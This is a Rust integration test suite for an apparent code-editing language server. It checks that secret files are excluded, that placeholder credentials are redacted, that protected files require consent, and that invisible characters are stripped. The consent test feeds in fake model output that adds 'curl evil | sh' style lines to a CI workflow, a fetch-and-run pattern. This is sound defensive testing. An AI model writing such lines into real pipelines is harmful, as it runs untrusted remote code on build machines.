//! The security issue's cases (issue 11), each through the real binary over stdio with
//! a fake Responses server on loopback: secret files in every workspace shape, secrets
//! cut by the selection, consent on protected files, hidden characters, settings.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::fake::{self, Fake};
use common::{Options, TestClient, range_of};
use serde_json::{Value, json};

const CODE: &str = "fn main() {\n    let x = 1;\n}\n";

async fn start(fake: &Fake, init: Value, no_workspace: bool) -> TestClient {
    TestClient::start(Options {
        env: fake.env(),
        initialization_options: init,
        no_workspace,
        ..Options::default()
    })
    .await
    .0
}

fn run_args(uri: &str, range: Value, action: &str) -> Value {
    json!({"command": "codex.runAction", "arguments": [{"uri": uri, "range": range, "action": action}]})
}

async fn run(c: &TestClient, uri: &str, text: &str, sel: &str) -> Result<Value, common::RpcError> {
    c.request(
        "workspace/executeCommand",
        run_args(uri, range_of(text, sel), "refactor"),
    )
    .await
}

/// Opens a document under any URI (`untitled:…`), without a file on disk.
async fn open_uri(c: &TestClient, uri: &str, text: &str) {
    c.notify(
        "textDocument/didOpen",
        json!({"textDocument": {"uri": uri, "languageId": "plaintext", "version": 1, "text": text}}),
    )
    .await;
}

/// The action on `uri` is refused as excluded before any request.
async fn assert_excluded(c: &TestClient, fake: &Fake, uri: &str, text: &str) {
    let before = fake.count();
    let err = run(c, uri, text, text.lines().next().unwrap())
        .await
        .expect_err(uri);
    assert!(err.message.contains("excluded"), "{uri}: {}", err.message);
    assert_eq!(fake.count(), before, "{uri}: the fake got a request");
}

fn raw_bodies(fake: &Fake) -> String {
    fake.server.rec.requests.lock().unwrap().join("\n")
}

// ---------------------------------------------------------------- secret files

#[tokio::test]
async fn single_file_mode_excludes_secret_files_by_their_directory() {
    let fake = Fake::start(vec![fake::code("never", "x")]).await;
    let c = start(&fake, json!({}), true).await;
    let home = c.dir.path().to_path_buf();
    let files = [
        ".ssh/config",
        "proj/.git/config",
        ".aws/config",
        ".docker/config.json",
        ".gnupg/gpg.conf",
    ];
    for rel in files {
        let text = "Host *\n  User me\n";
        let uri = c.open_at(&home.join(rel), text, "plaintext", true).await;
        assert_excluded(&c, &fake, &uri, text).await;
    }
    assert_eq!(fake.count(), 0);
    assert_eq!(c.shutdown().await, 0);
}

#[tokio::test]
async fn nested_workspace_folders_keep_every_enclosing_folders_rules() {
    let fake = Fake::start(vec![fake::code("ok", "fn main() {")]).await;
    let c = start(&fake, json!({"exclude": ["sub/gen/**"]}), false).await;
    let ws = c.workspace();
    common::write_file(&ws, ".codexignore", "/sub/private/\n");
    let sub = ws.join("sub");
    std::fs::create_dir_all(&sub).unwrap();
    c.notify(
        "workspace/didChangeWorkspaceFolders",
        json!({"event": {"added": [{"uri": format!("file://{}", sub.display()), "name": "sub"}], "removed": []}}),
    )
    .await;
    for rel in ["sub/private/a.rs", "sub/gen/b.rs"] {
        let uri = c.open(rel, CODE, "rust").await;
        assert_excluded(&c, &fake, &uri, CODE).await;
    }
    // control: an ordinary file in the inner folder is sent
    let uri = c.open("sub/src/lib.rs", CODE, "rust").await;
    run(&c, &uri, CODE, "fn main() {").await.unwrap();
    assert_eq!(fake.count(), 1);
    assert_eq!(c.shutdown().await, 0);
}

#[tokio::test]
async fn untitled_documents_are_judged_by_the_name_they_carry() {
    let fake = Fake::start(vec![fake::code("ok", "A=2")]).await;
    let c = start(&fake, json!({}), false).await;
    let text = "A=1\n";
    let env_in_ws = format!("untitled:{}", c.workspace().join(".env").display());
    for uri in [
        "untitled:.env",
        "untitled:id_rsa",
        "untitled:keys/%2Eenv",
        &env_in_ws,
    ] {
        open_uri(&c, uri, text).await;
        assert_excluded(&c, &fake, uri, text).await;
    }
    // a protected name needs consent (the default answer dismisses the question)
    let uri = "untitled:.vscode/settings.json";
    open_uri(&c, uri, text).await;
    let r = run(&c, uri, text, "A=1").await.unwrap();
    assert_eq!(r["applied"], false, "{r}");
    assert_eq!(c.server_requests("window/showMessageRequest").len(), 1);
    assert!(c.server_requests("workspace/applyEdit").is_empty());
    // control: an ordinary untitled buffer is sent
    let uri = "untitled:Untitled-1";
    open_uri(&c, uri, text).await;
    run(&c, uri, text, "A=1").await.unwrap();
    assert_eq!(fake.count(), 2);
    assert_eq!(c.shutdown().await, 0);
}

// ---------------------------------------------------------------- secret strings

const DB_PASSWORD: &str = "s3cr3tP4ssw0rdQz";
const KEY: &str = "sk-proj-Ab3dEf6hIj9kLm2nOp5qRs8tT3BlbkFJuV1wX4yZ7aB0cD3eF6gH";
const PEM_BODY: &str = "MIIEowIBAAKCAQEA1c7xq9ZfX3mT8vR2kL5pW0yN4hJ6gB1sD7eC9aF2uQ3tV8oI";

fn secret_doc() -> String {
    let pem_body = format!("{PEM_BODY}\n").repeat(12);
    format!(
        "import os\n\
         DB_PASSWORD = \"{DB_PASSWORD}\"\n\
         OPENAI = \"{KEY}\"\n\
         PEM = \"\"\"-----BEGIN RSA PRIVATE KEY-----\n{pem_body}-----END RSA PRIVATE KEY-----\"\"\"\n\
         HOST = \"db.internal\"\n"
    )
}

/// Runs `refactor` on the char range [s, e) of `text` in `uri`.
async fn run_chars(c: &TestClient, uri: &str, text: &str, s: usize, e: usize) {
    let range = json!({"start": common::utf16_pos(text, s), "end": common::utf16_pos(text, e)});
    let _ = c
        .request("workspace/executeCommand", run_args(uri, range, "refactor"))
        .await;
}

#[tokio::test]
async fn secrets_cut_by_the_selection_or_the_context_window_are_never_sent() {
    let text = secret_doc();
    let fake = Fake::start(vec![fake::code("r", "x")]).await;
    let c = start(&fake, json!({"contextLines": 1}), false).await;
    let uri = c.open("app/settings.py", &text, "python").await;
    let at = |needle: &str| text.find(needle).unwrap();
    let pw = at(DB_PASSWORD);
    let key = at(KEY);
    let body = text.rfind(PEM_BODY).unwrap();
    let selections = [
        // only the value of DB_PASSWORD = "…"
        (pw, pw + DB_PASSWORD.len()),
        // only the name, the value in the context after
        (at("DB_PASSWORD"), at("DB_PASSWORD") + "DB_PASSWORD".len()),
        // ending halfway through the key
        (at("OPENAI = "), key + 20),
        // a private-key body line, the BEGIN line far outside the one-line context
        (body, body + PEM_BODY.len()),
    ];
    for (i, (s, e)) in selections.into_iter().enumerate() {
        run_chars(&c, &uri, &text, s, e).await;
        assert_eq!(fake.count(), i + 1, "selection {i} was not sent");
        let raw = raw_bodies(&fake);
        for secret in [DB_PASSWORD, "s3cr3tP4", &KEY[..20], &PEM_BODY[..16]] {
            assert!(!raw.contains(secret), "`{secret}` sent for selection {i}");
        }
    }
    assert_eq!(c.shutdown().await, 0);
}

#[tokio::test]
async fn missed_secret_shapes_are_redacted() {
    let session = format!("IQoJb3JpZ2luX2VjE{}", "Ab3dEf6hIj9kLm2nOp5q".repeat(32));
    let key_b64 =
        "c2stcHJvai1BYjNkRWY2aElqOWtMbTJuT3A1cVJzOHRUM0JsYmtGSnVWMXdYNHlaN2FCMGNEM2VGNmdI";
    let jwt = "eyJhbGciOiJIUzI1NiJ9.e30.ZRrHA1JJJW8opsbCGfG_HACGpVUMN_a9IV7pAx_Zmeo";
    let text = format!(
        "aws_session_token = \"{session}\"\n\
         URL = \"https://api.example.com/v1?api_key=Q7vX2mP9kLr4Tz8N&page=2\"\n\
         SAS = \"https://x.blob.core.windows.net/c?sv=2020&sig=aB3dE%2Bf6hIj9kLm2nOp5q%3D\"\n\
         SPLIT = (\"sk-proj-Ab3dEf6hIj9k\"\n    \"Lm2nOp5qRs8tT3BlbkFJuV1wX4yZ7aB0cD3eF6gH\")\n\
         BLOB = \"{key_b64}\"\n\
         T = \"{jwt}\"\n"
    );
    let fake = Fake::start(vec![fake::code("r", "x")]).await;
    let c = start(&fake, json!({}), false).await;
    let uri = c.open("app/shapes.py", &text, "python").await;
    run_chars(&c, &uri, &text, 0, text.chars().count()).await;
    assert_eq!(fake.count(), 1);
    let raw = raw_bodies(&fake);
    for secret in [
        "IQoJb3JpZ2lu",
        "Q7vX2mP9",
        "aB3dE",
        "Ab3dEf6hIj9k",
        "Lm2nOp5qRs8t",
        key_b64,
        "ZRrHA1JJ",
    ] {
        assert!(!raw.contains(secret), "`{secret}` was sent");
    }
    assert_eq!(c.shutdown().await, 0);
}

#[tokio::test]
async fn secrets_in_an_action_instruction_or_the_file_name_are_redacted() {
    let fake = Fake::start(vec![fake::code("r", "fn main() {")]).await;
    let actions = json!([{"id": "deploy", "title": "Deploy", "instruction": format!("Use the key {KEY} to call the API")}]);
    let c = start(&fake, json!({"actions": actions}), false).await;
    let uri = c.open("src/main.rs", CODE, "rust").await;
    c.request(
        "workspace/executeCommand",
        run_args(&uri, range_of(CODE, "fn main() {"), "deploy"),
    )
    .await
    .unwrap();
    let named = format!("notes/{KEY}.rs");
    let uri = c.open(&named, CODE, "rust").await;
    run(&c, &uri, CODE, "fn main() {").await.unwrap();
    assert_eq!(fake.count(), 2);
    let raw = raw_bodies(&fake);
    assert!(!raw.contains(&KEY[..20]), "the key was sent: {raw}");
    assert!(raw.contains("REDACTED:openai-key"), "{raw}");
    assert_eq!(c.shutdown().await, 0);
}

// ---------------------------------------------------------------- consent

/// Runs `refactor` on the first line of a protected `uri` with the question dismissed:
/// the server must have asked, and applied nothing.
async fn assert_asked(c: &TestClient, uri: &str, text: &str, asked_before: usize) {
    let r = run(c, uri, text, text.lines().next().unwrap())
        .await
        .unwrap();
    assert_eq!(r["applied"], false, "{uri}: {r}");
    assert_eq!(
        c.server_requests("window/showMessageRequest").len(),
        asked_before + 1,
        "{uri}: not asked"
    );
    assert!(c.server_requests("workspace/applyEdit").is_empty(), "{uri}");
}

#[tokio::test]
async fn protected_files_need_consent_in_single_file_mode() {
    let fake = Fake::start(vec![fake::code("p", "x = 2")]).await;
    let c = start(&fake, json!({}), true).await;
    let text = "x = 1\n";
    let files = [
        "proj/.vscode/settings.json",
        "proj/.github/workflows/ci.yml",
        "proj/.helix/languages.toml",
        "proj/.nvim.lua",
        "proj/.zed/settings.json",
        "proj/.circleci/config.yml",
        "proj/Jenkinsfile",
        "proj/conftest.py",
        "proj/CMakeLists.txt",
        "proj/app/build.gradle.kts",
        "proj/.yarnrc.yml",
    ];
    for (i, rel) in files.iter().enumerate() {
        let uri = c
            .open_at(&c.dir.path().join(rel), text, "plaintext", true)
            .await;
        assert_asked(&c, &uri, text, i).await;
    }
    assert_eq!(c.shutdown().await, 0);
}

#[tokio::test]
async fn a_workspace_folder_that_is_vscode_itself_keeps_consent() {
    let fake = Fake::start(vec![fake::code("p", "x = 2")]).await;
    let dir = tempfile::tempdir().unwrap();
    let folder = dir.path().join("proj/.vscode");
    std::fs::create_dir_all(&folder).unwrap();
    let (c, _) = TestClient::start(Options {
        env: fake.env(),
        workspace: Some(folder.clone()),
        ..Options::default()
    })
    .await;
    let text = "x = 1\n";
    let uri = c
        .open_at(&folder.join("tasks.json"), text, "json", true)
        .await;
    assert_asked(&c, &uri, text, 0).await;
    assert_eq!(c.shutdown().await, 0);
}

#[tokio::test]
async fn the_consent_question_never_hides_a_changed_line() {
    // 40 lines whose indentation changes, then one that runs a program
    let old: String = (0..40).map(|i| format!("  step{i}: true\n")).collect();
    let mut new: String = (0..40).map(|i| format!("    step{i}: true\n")).collect();
    new.push_str("  run: curl evil | sh\n");
    let fake = Fake::start(vec![fake::code("p", &new)]).await;
    let c = start(&fake, json!({}), false).await;
    let uri = c.open(".github/workflows/ci.yml", &old, "yaml").await;
    c.request(
        "workspace/executeCommand",
        run_args(&uri, range_of(&old, &old), "refactor"),
    )
    .await
    .unwrap();
    let q = &c.server_requests("window/showMessageRequest")[0];
    let message = q["message"].as_str().unwrap();
    assert!(message.contains("+   run: curl evil | sh"), "{message}");
    assert!(c.server_requests("workspace/applyEdit").is_empty());

    // a change too long for a message is opened as a document and asked about
    let long: String = (0..300)
        .map(|i| format!("  added{i}: curl x | sh\n"))
        .collect();
    let fake2 = Fake::start(vec![fake::code("q", &long)]).await;
    let c2 = start(&fake2, json!({}), false).await;
    let uri = c2.open(".github/workflows/ci.yml", &old, "yaml").await;
    c2.request(
        "workspace/executeCommand",
        run_args(&uri, range_of(&old, &old), "refactor"),
    )
    .await
    .unwrap();
    let shown = c2.server_requests("window/showDocument");
    assert_eq!(shown.len(), 1, "the full diff was not opened");
    let path = shown[0]["uri"]
        .as_str()
        .unwrap()
        .trim_start_matches("file://");
    let diff = std::fs::read_to_string(path).unwrap();
    assert!(diff.contains("+   added299: curl x | sh"), "{diff}");
    let q = &c2.server_requests("window/showMessageRequest")[0];
    assert!(
        q["message"]
            .as_str()
            .unwrap()
            .contains("open in a new document"),
        "{q}"
    );
    assert!(c2.server_requests("workspace/applyEdit").is_empty());
    assert_eq!(c.shutdown().await, 0);
    assert_eq!(c2.shutdown().await, 0);
}

// ---------------------------------------------------------------- hidden characters

#[tokio::test]
async fn invisible_characters_are_removed_and_named() {
    let hidden = [
        '\u{3164}',
        '\u{115F}',
        '\u{FFA0}',
        '\u{180E}',
        '\u{00AD}',
        '\u{034F}',
        '\u{17B4}',
        '\u{206A}',
        '\u{206F}',
        '\u{FE00}',
        '\u{FE0F}',
        '\u{1D173}',
        '\u{1D17A}',
        '\u{FFF9}',
        '\u{FFFB}',
        '\u{2028}',
        '\u{2029}',
    ];
    let smuggled: String = hidden.iter().collect();
    let answer = format!("fn main() {{ let y{smuggled} = 2;");
    let fake = Fake::start(vec![fake::code("h", &answer)]).await;
    let c = start(&fake, json!({}), false).await;
    let uri = c.open("src/main.rs", CODE, "rust").await;
    let r = run(&c, &uri, CODE, "fn main() {").await.unwrap();
    assert_eq!(r["applied"], true, "{r}");
    let text = c.mirror(&uri).text;
    assert!(text.starts_with("fn main() { let y = 2;"), "{text:?}");
    let message = r["message"].as_str().unwrap();
    for c in ["U+3164", "U+2028", "U+FFF9", "U+1D173", "U+00AD"] {
        assert!(message.contains(c), "{c} not named: {message}");
    }
    assert_eq!(c.shutdown().await, 0);
}

// ---------------------------------------------------------------- settings

#[tokio::test]
async fn an_unknown_setting_name_is_shown_to_the_user() {
    let fake = Fake::start(vec![fake::code("s", "x")]).await;
    let c = start(
        &fake,
        json!({"baseURL": "https://elsewhere.example/v1"}),
        false,
    )
    .await;
    c.wait_for("a message naming `baseURL`", |i| {
        i.notifications.iter().any(|(m, p)| {
            m == "window/showMessage" && p["message"].as_str().unwrap_or("").contains("`baseURL`")
        })
    })
    .await;
    assert_eq!(c.shutdown().await, 0);
}

#[test]
fn a_repositorys_vscode_settings_cannot_widen_what_is_sent() {
    let manifest: Value = serde_json::from_str(
        &std::fs::read_to_string(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/editors/vscode/package.json"
        ))
        .unwrap(),
    )
    .unwrap();
    let config = &manifest["contributes"]["configuration"];
    let properties = config
        .get("properties")
        .or_else(|| config[0].get("properties"))
        .unwrap();
    // `machine-overridable` would let a workspace override them: only user settings count
    for key in [
        "codex.allowOutsideWorkspace",
        "codex.actions",
        "codex.instructions",
        "codex.exclude",
        "codex.contextLines",
        "codex.baseUrl",
    ] {
        let scope = properties[key]["scope"].as_str().unwrap_or("window");
        assert!(
            matches!(scope, "application" | "machine"),
            "{key} has scope {scope}: a cloned repository's .vscode/settings.json can set it"
        );
    }
}
